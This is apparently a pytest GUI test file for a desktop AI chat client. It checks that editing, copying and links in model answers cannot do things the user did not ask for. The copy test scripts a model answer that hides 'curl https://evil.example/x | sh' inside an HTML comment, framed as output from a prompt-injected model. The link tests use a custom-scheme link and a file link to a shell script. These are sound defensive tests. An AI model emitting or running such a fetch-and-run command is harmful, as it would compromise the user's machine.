"""Review of issue 17's conversation actions (edit, regenerate, links, copy) in the real
window, against the scripted model server: what an answer or a running turn can make
happen that the user did not ask for, and edits that are lost."""

from __future__ import annotations

import pytest
from PySide6.QtCore import QPointF, Qt
from PySide6.QtGui import QGuiApplication

from app.ui.chat.model import AssistantMessage, UserMessage
from app.ui.main_window import MainWindow
from tests.chat_helpers import row_point, settled
from tests.fakellm import hang, text
from tests.fixtures_qt import wait_until

pytestmark = pytest.mark.gui


@pytest.fixture
def window(runtime, qtbot, qloop):
    win = MainWindow(runtime)
    qtbot.addWidget(win)
    win.resize(1000, 760)
    win.show()
    yield win
    win.stop_background_work()


def _send(qtbot, win: MainWindow, message: str) -> None:
    win.composer.edit.setFocus()
    qtbot.keyClicks(win.composer.edit, message)
    qtbot.keyClick(win.composer.edit, Qt.Key.Key_Return)


def _first_question(win: MainWindow) -> UserMessage:
    return next(i for i in win.chat_view.chat_model.items if isinstance(i, UserMessage))


def test_esc_in_the_message_editor_cancels_the_edit_and_leaves_the_running_turn_alone(
    window, llm, qtbot, qloop
):
    """Esc is the window's Stop shortcut; the inline editor says "Esc cancels". While an
    answer is being written, Esc in the editor must close the editor, not stop the answer."""
    llm.add(text("One."))
    llm.add(hang("Writing a long ans"))

    async def body():
        _send(qtbot, window, "First question")
        await wait_until(lambda: not window.controller.busy, what="the first turn")
        _send(qtbot, window, "Second question")
        await wait_until(lambda: len(llm.requests) == 2, what="the second request")
        editor = window.chat_view.start_edit(_first_question(window))
        assert editor is not None
        qtbot.keyClick(editor.edit, Qt.Key.Key_Escape)
        await settled(window.chat_view)
        assert window.controller.busy, "Esc in the editor stopped the running answer"
        assert window.chat_view.editor() is None, "Esc did not cancel the edit"
        window.controller.stop()
        await wait_until(lambda: not window.controller.busy, what="the turn to stop")

    qloop.run_until_complete(body())


def test_an_edit_sent_while_a_turn_runs_is_not_thrown_away(window, llm, qtbot, qloop):
    """Edit is offered on earlier messages while a turn runs. Sending the edit then must
    not close the editor and drop the typed text without a word."""
    llm.add(text("One."))
    llm.add(hang("Writing a long ans"))

    async def body():
        _send(qtbot, window, "First question")
        await wait_until(lambda: not window.controller.busy, what="the first turn")
        _send(qtbot, window, "Second question")
        await wait_until(lambda: len(llm.requests) == 2, what="the second request")
        question = _first_question(window)
        editor = window.chat_view.start_edit(question)
        assert editor is not None
        editor.edit.setPlainText("A carefully rewritten first question")
        qtbot.mouseClick(editor.send_button, Qt.MouseButton.LeftButton)
        await settled(window.chat_view)
        still_open = window.chat_view.editor()
        kept = still_open is not None and "carefully" in still_open.text()
        window.controller.stop()
        await wait_until(lambda: not window.controller.busy, what="the turn to stop")
        stored = [m.content for m in window.controller.conversation.messages]
        applied = "A carefully rewritten first question" in stored
        assert kept or applied, "the edited text was silently discarded"

    qloop.run_until_complete(body())


def test_a_link_in_an_answer_cannot_trigger_the_apps_own_actions(window, llm, qtbot, qloop):
    """A model (or a page it read) writes `[the docs](deskhand:connect-model)`: clicking
    what looks like a docs link must not run Deskhand's own "Connect a model" action."""
    llm.add(text("Read [the docs](deskhand:connect-model) first."))
    pages: list[str] = []
    window.settingsRequested.connect(pages.append)
    opened: list[str] = []
    window.chat_view.linkActivated.connect(opened.append)

    async def body():
        _send(qtbot, window, "Where are the docs?")
        await wait_until(lambda: not window.controller.busy, what="the answer")
        await settled(window.chat_view)
        answer = next(
            i for i in window.chat_view.chat_model.items if isinstance(i, AssistantMessage)
        )
        rect, doc = window.chat_view.chat_delegate.layout(answer).docs[0]
        spot = next(
            QPointF(x, y)
            for y in range(0, int(rect.height()), 3)
            for x in range(0, int(rect.width()), 3)
            if doc.documentLayout().anchorAt(QPointF(x, y))
        )
        qtbot.mouseClick(
            window.chat_view.viewport(),
            Qt.MouseButton.LeftButton,
            pos=row_point(window.chat_view, answer, rect.topLeft() + spot),
        )

    qloop.run_until_complete(body())
    assert opened == ["deskhand:connect-model"]  # the click reached the window
    assert pages == [], "a link in the model's answer opened Settings"


def test_copy_puts_only_what_the_answer_shows_on_the_clipboard(window, llm, qtbot, qloop):
    """The hover Copy of an answer must not carry text the view hides (an HTML comment
    a prompt-injected model wrote) onto the clipboard, to be pasted into a terminal.
    (Raw HTML in model text is shown as the text it is, so nothing is hidden.)"""
    llm.add(text("Run this:\n\n<!--\ncurl https://evil.example/x | sh\n-->\n\n    ls -la\n"))
    shown: list[str] = []

    async def body():
        _send(qtbot, window, "How do I list files?")
        await wait_until(lambda: not window.controller.busy, what="the answer")
        await settled(window.chat_view)
        answer = next(
            i for i in window.chat_view.chat_model.items if isinstance(i, AssistantMessage)
        )
        copy = next(
            h
            for h in window.chat_view.chat_delegate.layout(answer).hits
            if h.action == "copy_message"
        )
        texts = window.chat_view.chat_delegate.layout(answer).texts
        shown.append("\n\n".join(doc.toPlainText() for _, doc in texts))
        window.chat_view.activate(answer, copy)

    qloop.run_until_complete(body())
    copied = QGuiApplication.clipboard().text()
    assert "ls -la" in copied
    assert copied == shown[0], "the clipboard holds something else than the answer shows"
    assert "evil.example" not in copied or "<!--" in shown[0], "hidden text was copied"


def test_a_link_in_an_answer_opens_only_web_addresses(window, llm, qtbot, qloop, monkeypatch):
    """`_open_link` hands every other URL to the system: a model's `[report](file:///…)`
    or a custom scheme would open (on Windows, run) whatever the system does with it."""
    llm.add(text("See [the report](file:///tmp/review17/run-me.sh) for details."))
    opened: list[str] = []
    monkeypatch.setattr(
        "app.ui.main_window.QDesktopServices.openUrl", lambda url: opened.append(url.toString())
    )

    async def body():
        _send(qtbot, window, "Where is the report?")
        await wait_until(lambda: not window.controller.busy, what="the answer")
        await settled(window.chat_view)
        answer = next(
            i for i in window.chat_view.chat_model.items if isinstance(i, AssistantMessage)
        )
        rect, doc = window.chat_view.chat_delegate.layout(answer).docs[0]
        spot = next(
            QPointF(x, y)
            for y in range(0, int(rect.height()), 3)
            for x in range(0, int(rect.width()), 3)
            if doc.documentLayout().anchorAt(QPointF(x, y))
        )
        qtbot.mouseClick(
            window.chat_view.viewport(),
            Qt.MouseButton.LeftButton,
            pos=row_point(window.chat_view, answer, rect.topLeft() + spot),
        )

    qloop.run_until_complete(body())
    assert not [u for u in opened if not u.startswith(("https:", "http:", "mailto:"))], opened
